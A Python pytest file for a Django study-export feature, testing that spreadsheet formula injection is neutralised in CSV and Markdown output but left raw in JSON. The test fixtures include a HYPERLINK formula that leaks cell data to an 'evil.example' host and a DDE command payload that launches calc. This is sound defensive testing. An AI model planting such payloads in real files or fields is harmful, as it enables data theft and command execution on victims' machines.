"""The writer registry: formula injection is neutralised in spreadsheet-bound files, JSON stays raw."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from annotation import services
from annotation.models import Enrollment
from results.formats import TABLE_WRITERS, neutralise, render
from results.table import build_table
from tests.annotation.factories import baseline_runs, cohort, complete, gold_answer, make_study, trim_test_set

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clues")]

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def test_neutralise_follows_owasp_and_leaves_numbers_alone():
    for text in (EVIL, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    for value in (-3.5, -2, "-3.5", "+12", "-", "plain", "", None, 0.8):
        assert neutralise(value) == value


def test_the_registry_has_one_writer_per_format():
    assert set(TABLE_WRITERS) == {"html", "csv", "json", "md", "tex"}
    cells = [{"task": "sst2", "shots": 0, "mean": 80.0, "std": 2.0, "n": 3}]
    html = render(build_table(cells), "html")
    assert '<span class="value">80.0</span>' in html and "± 2.0" in html and "n=3" in html
    assert "{#" not in html and "comment" not in html  # the template's own note stays out of the page


def _complete_through_the_join_link(study, worker_id: str) -> Enrollment:
    sst0 = cohort(study, "sst2", 0)
    response = Client().get(sst0.join_path, {"worker_id": worker_id})
    assert response.status_code in (200, 302)
    enrollment = Enrollment.objects.get(cohort=sst0, worker__external_id=worker_id)
    while (state := services.current_item(enrollment_id=enrollment.pk)).item is not None:
        services.submit_answer(enrollment_id=enrollment.pk, item=state.item_handle, answer=gold_answer(state.item))
    return enrollment


def test_a_worker_id_formula_is_neutralised_in_csv_and_markdown_and_raw_in_json(researcher):
    study = make_study(shots=[0], platform="generic", created_by=researcher)
    _complete_through_the_join_link(study, EVIL)
    client = Client()
    client.force_login(researcher)
    url = f"/api/studies/{study.pk}/export/annotators/"
    as_csv = client.get(url, {"fmt": "csv"})
    assert as_csv.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(as_csv.content.decode())))
    assert row["worker"] == "'" + EVIL
    assert float(row["test_s1_percent"]) == pytest.approx(100.0)  # numbers stay numbers
    as_md = client.get(url, {"fmt": "md"}).content.decode()
    assert "'=HYPERLINK" in as_md and "| =HYPERLINK" not in as_md
    as_json = json.loads(client.get(url, {"fmt": "json"}).content)
    assert as_json["rows"][0]["worker"] == EVIL


def test_a_model_name_formula_is_neutralised_in_the_table_and_negative_gaps_stay_numbers(researcher):
    trim_test_set("sst2", 5)
    study = make_study(shots=[0, 10], created_by=researcher, filter_floor=None, filter_fraction=None)
    complete(cohort(study, "sst2", 10), "A")  # model rows stand in the table beside a completed annotator
    baseline_runs("sst2", 10, "ft", "@evil", [0.5, 0.7])
    client = Client()
    client.force_login(researcher)
    url = f"/api/studies/{study.pk}/export/table/"
    as_csv = client.get(url, {"fmt": "csv", "with_baselines": "1"}).content.decode()
    lines = as_csv.splitlines()
    assert any(line.startswith("ft @evil,10,60.0 ± 14.1") for line in lines)  # label starts with "f": unchanged
    baseline_runs("sst2", 10, "=cmd", "m", [0.5])
    as_csv = client.get(url, {"fmt": "csv", "with_baselines": "1"}).content.decode()
    assert "'=cmd m,10,50.0" in as_csv and "\n=cmd" not in as_csv
    payload = json.loads(client.get(url, {"fmt": "json", "with_baselines": "1"}).content)
    assert {r["method"] for r in payload["model_rows"]} == {"ft", "=cmd"}
    gaps = [{"task": "sst2", "shots": 10, "mean": 40.0, "std": None, "n": 1}]
    table = build_table(
        gaps,
        [
            {
                "method": "ft",
                "model": "m",
                "task": "sst2",
                "shots": 10,
                "mean": 50.0,
                "diff": -10.0,
                "ci_low": -12.5,
                "ci_high": -7.5,
            }
        ],
    )
    assert "-10.0 [-12.5, -7.5]" in render(table, "csv") and "'-10.0" not in render(table, "csv")
